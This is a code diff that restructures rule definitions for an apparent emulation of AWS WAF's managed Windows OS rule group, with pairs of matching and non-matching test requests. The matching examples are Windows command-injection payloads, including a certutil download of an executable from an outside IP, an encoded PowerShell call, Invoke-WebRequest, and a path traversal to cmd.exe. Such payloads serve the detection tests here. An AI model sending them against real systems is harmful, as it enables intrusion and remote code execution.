@@ -8,8 +8,7 @@ import type { ManagedRule, ManagedRuleGroup, RequestExample } from './rule.ts'
 const prose = 'Type the name & press enter; the net result | the set of more'
 
 function rule(
-  name: string,
-  label: string,
+  [name, label]: readonly [name: string, label: string],
   components: Component[],
   detector: Detector,
   examples: readonly [RequestExample[], RequestExample[]],
@@ -32,13 +31,14 @@ export const windows: ManagedRuleGroup = {
   capacity: 200,
   labelNamespace: 'awswaf:managed:aws:windows-os:',
   rules: [
-    rule('WindowsShellCommands_COOKIE', 'WindowsShellCommands_Cookie', ['cookies'], windowsShell, [
-      [inCookie('1 & whoami')],
-      [inCookie('a&b')],
-    ]),
     rule(
-      'WindowsShellCommands_QUERYARGUMENTS',
-      'WindowsShellCommands_QueryArguments',
+      ['WindowsShellCommands_COOKIE', 'WindowsShellCommands_Cookie'],
+      ['cookies'],
+      windowsShell,
+      [[inCookie('1 & whoami')], [inCookie('a&b')]],
+    ),
+    rule(
+      ['WindowsShellCommands_QUERYARGUMENTS', 'WindowsShellCommands_QueryArguments'],
       ['queryArguments'],
       windowsShell,
       [
@@ -52,35 +52,37 @@ export const windows: ManagedRuleGroup = {
         [inQuery(prose), inQuery('AT&T'), inQuery('100% & more')],
       ],
     ),
-    rule('WindowsShellCommands_BODY', 'WindowsShellCommands_Body', ['body'], windowsShell, [
+    rule(['WindowsShellCommands_BODY', 'WindowsShellCommands_Body'], ['body'], windowsShell, [
       [inForm('x && ipconfig /all'), inJson('certutil -urlcache -f http://198.51.100.4/a a.exe')],
       [inForm(prose), inJson('C:\\Users\\me\\notes.txt')],
     ]),
-    rule('WindowsShellCommands_HEADER', 'WindowsShellCommands_Header', ['headers'], windowsShell, [
-      [inHeader('x-forwarded-for', '1.1.1.1 & ping -n 5 127.0.0.1')],
-      [inHeader('user-agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36')],
-    ]),
     rule(
-      'WindowsShellCommands_QUERYSTRING',
-      'WindowsShellCommands_QueryString',
+      ['WindowsShellCommands_HEADER', 'WindowsShellCommands_Header'],
+      ['headers'],
+      windowsShell,
+      [
+        [inHeader('x-forwarded-for', '1.1.1.1 & ping -n 5 127.0.0.1')],
+        [inHeader('user-agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36')],
+      ],
+    ),
+    rule(
+      ['WindowsShellCommands_QUERYSTRING', 'WindowsShellCommands_QueryString'],
       ['queryArguments'],
       windowsShell,
       [[inTarget('/?a=b%26%26type%20c:%5Cboot.ini')], [inTarget('/?type=a&dir=b')]],
     ),
     rule(
-      'WindowsShellCommands_URIPATH',
-      'WindowsShellCommands_URIPath',
+      ['WindowsShellCommands_URIPATH', 'WindowsShellCommands_URIPath'],
       ['uriPath'],
       windowsShell,
       [[inTarget('/scripts/..%255c../winnt/system32/cmd.exe')], [inTarget('/windows/download')]],
     ),
-    rule('PowerShellCommands_COOKIE', 'PowerShellCommands_Cookie', ['cookies'], powerShell, [
+    rule(['PowerShellCommands_COOKIE', 'PowerShellCommands_Cookie'], ['cookies'], powerShell, [
       [inCookie('powershell -enc SQBFAFgA')],
       [inCookie('power-shell')],
     ]),
     rule(
-      'PowerShellCommands_QUERYARGUMENTS',
-      'PowerShellCommands_QueryArguments',
+      ['PowerShellCommands_QUERYARGUMENTS', 'PowerShellCommands_QueryArguments'],
       ['queryArguments'],
       powerShell,
       [
@@ -95,7 +97,7 @@ export const windows: ManagedRuleGroup = {
         ],
       ],
     ),
-    rule('PowerShellCommands_BODY', 'PowerShellCommands_Body', ['body'], powerShell, [
+    rule(['PowerShellCommands_BODY', 'PowerShellCommands_Body'], ['body'], powerShell, [
       [
         inForm('Invoke-WebRequest -Uri http://198.51.100.4/a'),
         inJson('Get-Process | Stop-Process'),
